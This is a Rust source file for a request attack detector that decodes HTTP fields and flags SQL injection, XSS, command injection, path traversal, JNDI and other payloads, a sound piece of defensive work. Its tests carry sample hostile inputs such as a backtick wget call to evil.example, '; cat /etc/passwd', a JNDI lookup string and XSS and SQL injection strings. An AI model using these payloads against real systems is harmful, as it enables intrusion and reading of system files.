//! Request attack detector: decodes each field of a request the way a lenient back end would,
//! then looks for eight classes of attack in it. SQL injection and XSS go through
//! libinjection's tokenizers (the `libinjectionrs` port) and a rule table; the other classes
//! through rule tables alone. Sans-IO: it reads strings and returns findings; the HTTP layer
//! decides what a finding costs the caller.

mod decode;
mod request;
mod rules;

use std::borrow::Cow;

use regex::bytes::{RegexSet, RegexSetBuilder};
use serde::{Deserialize, Serialize};

pub use decode::decode;
pub use request::RequestView;

use rules::{RULES, View};

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum AttackClass {
    SqlInjection,
    Xss,
    PathTraversal,
    CommandInjection,
    Ssrf,
    Jndi,
    Shellshock,
    HeaderInjection,
}

impl AttackClass {
    pub const ALL: [Self; 8] = [
        Self::SqlInjection,
        Self::Xss,
        Self::PathTraversal,
        Self::CommandInjection,
        Self::Ssrf,
        Self::Jndi,
        Self::Shellshock,
        Self::HeaderInjection,
    ];

    pub fn as_str(self) -> &'static str {
        match self {
            Self::SqlInjection => "sql_injection",
            Self::Xss => "xss",
            Self::PathTraversal => "path_traversal",
            Self::CommandInjection => "command_injection",
            Self::Ssrf => "ssrf",
            Self::Jndi => "jndi",
            Self::Shellshock => "shellshock",
            Self::HeaderInjection => "header_injection",
        }
    }

    /// The parts of a request where this class of payload does harm. URLs in a `Referer` are
    /// not SSRF; a path segment is not a shell argument.
    fn inspects(self, source: Source) -> bool {
        use Source::*;
        match self {
            Self::SqlInjection => matches!(source, ArgName | ArgValue | Cookie | UserAgent | Referer | Path),
            Self::Xss => true,
            Self::PathTraversal => !matches!(source, Referer),
            Self::CommandInjection => matches!(source, ArgName | ArgValue | Cookie),
            Self::Ssrf => matches!(source, ArgName | ArgValue | Path),
            Self::Jndi | Self::Shellshock | Self::HeaderInjection => true,
        }
    }
}

/// Where in a request a field came from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Source {
    Path,
    ArgName,
    ArgValue,
    Cookie,
    UserAgent,
    Referer,
    Header,
}

/// What the service does with a finding of a class.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Mode {
    Off,
    Monitor,
    #[default]
    Block,
}

/// One match: the class, the rule that matched and where.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    pub class: AttackClass,
    pub rule: &'static str,
    pub location: String,
}

/// Compiled rule tables. Build once and share: matching takes `&self`.
pub struct Detector {
    enabled: [bool; 8],
    /// One set per rendering, and the unions read in one pass when renderings are the same
    /// text (most fields: one line, no comments, no whitespace runs).
    lower: RuleSet,
    sql: RuleSet,
    compact: RuleSet,
    lower_and_sql: RuleSet,
    every_view: RuleSet,
}

/// The rules of some renderings compiled into one set.
struct RuleSet {
    set: RegexSet,
    /// Index into [`RULES`] of each pattern of the set, in table order.
    members: Vec<usize>,
}

impl RuleSet {
    fn new(views: &[View], enabled: &[bool; 8]) -> Self {
        let members: Vec<usize> =
            (0..RULES.len()).filter(|&i| views.contains(&RULES[i].view) && enabled[RULES[i].class as usize]).collect();
        let set = RegexSetBuilder::new(members.iter().map(|&i| RULES[i].pattern))
            .unicode(false)
            .size_limit(64 << 20)
            .dfa_size_limit(16 << 20)
            .build()
            .expect("the rule table compiles");
        Self { set, members }
    }

    /// The first rule in table order that matches `text` and reads `source`.
    fn first_match(&self, text: &str, source: Source) -> Option<&'static rules::Rule> {
        // Most fields match nothing; the cheaper yes/no search settles those.
        if !self.set.is_match(text.as_bytes()) {
            return None;
        }
        self.set.matches(text.as_bytes()).iter().map(|m| &RULES[self.members[m]]).find(|rule| rule.reads(source))
    }
}

impl Detector {
    /// A detector for the classes whose mode is not [`Mode::Off`].
    pub fn new(mode_of: impl Fn(AttackClass) -> Mode) -> Self {
        let enabled = AttackClass::ALL.map(|class| mode_of(class) != Mode::Off);
        Self {
            enabled,
            lower: RuleSet::new(&[View::Lower], &enabled),
            sql: RuleSet::new(&[View::Sql], &enabled),
            compact: RuleSet::new(&[View::Compact], &enabled),
            lower_and_sql: RuleSet::new(&[View::Lower, View::Sql], &enabled),
            every_view: RuleSet::new(&[View::Lower, View::Sql, View::Compact], &enabled),
        }
    }

    fn enabled(&self, class: AttackClass, source: Source) -> bool {
        self.enabled[class as usize] && class.inspects(source)
    }

    /// The first finding in one field, if any. `form` says the field came from a query string or
    /// form body, where `+` is a space.
    pub fn scan(&self, source: Source, raw: &str, form: bool) -> Option<(AttackClass, &'static str)> {
        if raw.is_empty() {
            return None;
        }
        let decoded = decode(raw, form);
        let chars = Ascii::of(&decoded);
        // No ASCII letters (digits, Devanagari, phone numbers) and only harmless punctuation:
        // nothing can carry a payload. Many real fields are like this.
        if chars.only(Ascii::PLAIN) {
            return None;
        }
        if self.enabled(AttackClass::HeaderInjection, source)
            && source != Source::ArgValue
            && chars.any(Ascii::LINE_BREAK)
            && decoded.trim_end_matches(['\r', '\n']).contains(['\r', '\n'])
        {
            return Some((AttackClass::HeaderInjection, "crlf-line-break"));
        }
        // libinjection reads some prose as SQL ("one quarter (24%) of people") or an attribute
        // ("style=color:red"), and its SQL tokenizer is the costliest step: run it only on text
        // with a character that can break out of a quoted or numeric context.
        if self.enabled(AttackClass::SqlInjection, source)
            && (chars.any(Ascii::SQL_BREAK) || chars.contains(&decoded, "--") || chars.contains(&decoded, "/*"))
            && libinjectionrs::detect_sqli(decoded.as_bytes()).is_injection()
        {
            return Some((AttackClass::SqlInjection, "sqli-libinjection"));
        }
        // Its XSS tokenizer flags only a tag (`<`) or an attribute value (`=`), and an attribute
        // injected outside a tag must first close a quoted value or the tag.
        if self.enabled(AttackClass::Xss, source)
            && (chars.any(Ascii::TAG) || chars.any(Ascii::EQUALS) && chars.any(Ascii::CLOSES_VALUE))
            && libinjectionrs::detect_xss(decoded.as_bytes()).is_injection()
        {
            return Some((AttackClass::Xss, "xss-libinjection"));
        }
        let (lower, chars) = ascii_lower(&decoded, chars);
        self.match_rules(source, &lower, chars).map(|rule| (rule.class, rule.id))
    }

    /// The first rule that matches its rendering of `lower`, reading each rendering once and
    /// renderings that are the same text together.
    fn match_rules(&self, source: Source, lower: &str, chars: Ascii) -> Option<&'static rules::Rule> {
        // A bare word (a JSON key, an enum value) needs no compact rendering, and its SQL
        // rendering is itself (`xunionselectfrom` still is SQL).
        let word = lower.len() <= 64 && chars.only(Ascii::WORD);
        let compact_needed = !word && chars.any(Ascii::COMPACT_RULE_NEEDS);
        // The compact rendering is built from the SQL one, so comments go once.
        let sql = if word { Cow::Borrowed(lower) } else { sql_view(lower, chars) };
        let hit = if let Cow::Owned(sql) = &sql {
            self.lower.first_match(lower, source).or_else(|| self.sql.first_match(sql, source))
        } else if compact_needed && !chars.any(Ascii::SPACE | Ascii::CONTROL | Ascii::BACKSLASH) {
            // The compact rendering is this text too.
            return self.every_view.first_match(lower, source);
        } else {
            self.lower_and_sql.first_match(lower, source)
        };
        hit.or_else(|| compact_needed.then(|| self.compact.first_match(&compact_view(&sql), source)).flatten())
    }
}

/// The ASCII characters that occur in a text, found in one pass so that each of the checks
/// above is a bit test rather than another pass.
#[derive(Clone, Copy)]
struct Ascii(u128);

impl Ascii {
    /// No ASCII letters and only punctuation no payload is made of.
    const PLAIN: u128 = Self::set(b"0123456789 -_,+");
    const LINE_BREAK: u128 = Self::set(b"\r\n");
    /// What ends a quoted or numeric SQL context or starts a comment.
    const SQL_BREAK: u128 = Self::set(b"'\"`#");
    const TAG: u128 = Self::set(b"<");
    const EQUALS: u128 = Self::set(b"=");
    const CLOSES_VALUE: u128 = Self::set(b">\"'`");
    const BACKSLASH: u128 = Self::set(b"\\");
    const BLANK: u128 = Self::set(b" ");
    const UPPER: u128 = Self::set(b"ABCDEFGHIJKLMNOPQRSTUVWXYZ");
    const WORD: u128 = Self::set(b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_");
    /// What `u8::is_ascii_whitespace` accepts.
    const SPACE: u128 = Self::set(b" \t\n\x0c\r");
    const CONTROL: u128 = ((1 << 32) - 1) | (1 << 127);
    /// Every Compact rule needs one of these, but for two bare words (`json_extract`,
    /// `-moz-binding`), which are only read in their compact form next to one of these.
    const COMPACT_RULE_NEEDS: u128 = Self::set(b"<:.([`$@!+'\"{=");

    const fn set(chars: &[u8]) -> u128 {
        let mut set = 0;
        let mut i = 0;
        while i < chars.len() {
            set |= 1 << chars[i];
            i += 1;
        }
        set
    }

    fn of(text: &str) -> Self {
        // A table lookup per byte: computing the bit (a 128-bit shift, a branch for non-ASCII)
        // costs several times more.
        static BIT: [u128; 256] = {
            let mut bits = [0; 256];
            let mut b = 0;
            while b < 128 {
                bits[b] = 1 << b;
                b += 1;
            }
            bits
        };
        Self(text.bytes().fold(0, |set, b| set | BIT[usize::from(b)]))
    }

    /// The characters of the text lowercased: `A`–`Z` are 32 below `a`–`z`.
    fn lowercase(self) -> Self {
        Self((self.0 & !Self::UPPER) | ((self.0 & Self::UPPER) << 32))
    }

    fn any(self, set: u128) -> bool {
        self.0 & set != 0
    }

    fn only(self, set: u128) -> bool {
        self.0 & !set == 0
    }

    /// Whether `text` (the text this was made of) contains the two-character `pair`.
    fn contains(self, text: &str, pair: &str) -> bool {
        pair.bytes().all(|b| b < 128 && self.0 >> b & 1 == 1) && text.contains(pair)
    }
}

/// Lowercase ASCII rendering for the rule tables. Other characters become `x`, or a space for
/// Latin-1 symbols and general punctuation (curly quotes, dashes): no payload needs them once
/// decoded, and a letter keeps word boundaries where the text had one (the `elt` in `Haßelt`
/// is not the SQL function).
///
/// `chars` are those of `text`; the rendering is returned with its own.
fn ascii_lower(text: &str, chars: Ascii) -> (Cow<'_, str>, Ascii) {
    if text.is_ascii() {
        let lower = if chars.any(Ascii::UPPER) { Cow::Owned(text.to_ascii_lowercase()) } else { Cow::Borrowed(text) };
        return (lower, chars.lowercase());
    }
    let mut lower = Vec::with_capacity(text.len());
    lower.extend(text.chars().map(|c| match c {
        _ if c.is_ascii() => c.to_ascii_lowercase() as u8,
        // Latin-1 characters a 7-bit decoder reads as markup: `¼script¾` is `<script>`.
        '\u{bc}' => b'<',
        '\u{be}' => b'>',
        '\u{a2}' => b'"',
        '\u{a7}' => b'\'',
        '\u{a0}'..='\u{bf}' | '\u{2000}'..='\u{206f}' => b' ',
        _ => b'x',
    }));
    let lower = String::from_utf8(lower).expect("ASCII is UTF-8");
    let chars = Ascii::of(&lower);
    (Cow::Owned(lower), chars)
}

/// SQL comments become a space and whitespace runs one space, as a SQL parser sees them.
/// `chars` are those of `lower`; when the text has no comment and no whitespace but single
/// spaces between words, it is returned as it is.
fn sql_view(lower: &str, chars: Ascii) -> Cow<'_, str> {
    let single_spaced = !chars.any(Ascii::SPACE & !Ascii::BLANK) && !chars.contains(lower, "  ");
    if single_spaced && !chars.contains(lower, "/*") && !lower.starts_with(' ') && !lower.ends_with(' ') {
        return Cow::Borrowed(lower);
    }
    let mut out = String::with_capacity(lower.len());
    let mut rest = lower;
    while let Some(start) = rest.find("/*") {
        out.push_str(&rest[..start]);
        out.push(' ');
        rest = match rest[start + 2..].find("*/") {
            Some(end) => &rest[start + 2 + end + 2..],
            None => "",
        };
    }
    out.push_str(rest);
    let mut collapsed = String::with_capacity(out.len());
    for word in out.split_ascii_whitespace() {
        if !collapsed.is_empty() {
            collapsed.push(' ');
        }
        collapsed.push_str(word);
    }
    Cow::Owned(collapsed)
}

/// The SQL rendering (comments already gone) without whitespace, control characters and
/// backslashes.
fn compact_view(sql: &str) -> String {
    let mut compact = Vec::with_capacity(sql.len());
    compact.extend(sql.bytes().filter(|b| !b.is_ascii_whitespace() && !b.is_ascii_control() && *b != b'\\'));
    String::from_utf8(compact).expect("the SQL rendering is ASCII")
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn detector() -> Detector {
        Detector::new(|_| Mode::Block)
    }

    fn class_of(source: Source, text: &str) -> Option<AttackClass> {
        detector().scan(source, text, false).map(|(class, _)| class)
    }

    #[test]
    fn a_program_name_alone_is_not_a_command_line() {
        for text in ["regedit", "regedit ", "wget"] {
            assert_eq!(class_of(Source::ArgValue, text), None, "{text}");
        }
        for text in ["regedit /s evil.reg", "time regedit ", "sudo wget", "x; regedit"] {
            assert_eq!(class_of(Source::ArgValue, text), Some(AttackClass::CommandInjection), "{text}");
        }
    }

    #[test]
    fn backticks_quote_text_unless_they_run_a_command() {
        for text in ["`foo`;`bar`;`def`", "use `size=M` or `L` in the notes"] {
            assert_eq!(class_of(Source::ArgValue, text), None, "{text}");
        }
        for text in ["`id`", "x`wget evil.example/x`", "`python -c 1`"] {
            assert_eq!(class_of(Source::ArgValue, text), Some(AttackClass::CommandInjection), "{text}");
        }
    }

    #[test]
    fn script_words_in_a_path_are_a_file_name() {
        assert_eq!(class_of(Source::Path, "/get/javascript-manual/document.cookie"), None);
        assert_eq!(class_of(Source::ArgValue, "document.cookie"), Some(AttackClass::Xss));
        assert_eq!(class_of(Source::Path, "/x/<script>document.cookie</script>"), Some(AttackClass::Xss));
    }

    /// The rules of each rendering, each read separately: what reading renderings together
    /// must agree with.
    fn separately(detector: &Detector, source: Source, lower: &str) -> Option<&'static str> {
        let sql = sql_view(lower, Ascii::of(lower));
        let compact = Ascii::of(lower).any(Ascii::COMPACT_RULE_NEEDS).then(|| compact_view(&sql));
        let lower_hit = detector.lower.first_match(lower, source);
        let sql_hit = detector.sql.first_match(&sql, source);
        let compact_hit = compact.and_then(|compact| detector.compact.first_match(&compact, source));
        [lower_hit, sql_hit, compact_hit].into_iter().flatten().min_by_key(|rule| rule.id).map(|rule| rule.id)
    }

    proptest! {
        #[test]
        fn the_characters_of_a_text_lowercased_are_those_of_its_lowercase(text in "[\\x00-\\x7f]{0,40}") {
            prop_assert_eq!(Ascii::of(&text).lowercase().0, Ascii::of(&text.to_ascii_lowercase()).0);
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(2000))]
        #[test]
        fn renderings_read_together_find_what_they_find_apart(
            payload in prop::sample::select(vec![
                "document.cookie", "javascript:alert(1)", "<svg onload=alert(1)>", "x' or 1=1", "union select a from b",
                "${jndi:ldap://x}", "`id`", "; cat /etc/passwd", "../../etc/passwd", "json_extract(a)", "select 1",
                "a.innerhtml", "'a'::text", "cat food and a bash cap", "order 4512, ok.",
            ]),
            cuts in proptest::collection::vec((0..40usize, prop::sample::select(vec![" ", "  ", "\t", "\n", "/**/", "\\", "x"])), 0..4),
            source in prop::sample::select(vec![Source::Path, Source::ArgValue, Source::Referer, Source::Header]),
        ) {
            let mut lower = payload.to_owned();
            for (at, cut) in cuts {
                lower.insert_str(at % (lower.len() + 1), cut);
            }
            static DETECTOR: std::sync::LazyLock<Detector> = std::sync::LazyLock::new(detector);
            let together = DETECTOR.match_rules(source, &lower, Ascii::of(&lower)).map(|rule| rule.id);
            let apart = separately(&DETECTOR, source, &lower);
            prop_assert_eq!(together.is_some(), apart.is_some(), "{:?}: {:?} vs {:?}", lower, together, apart);
        }
    }
}
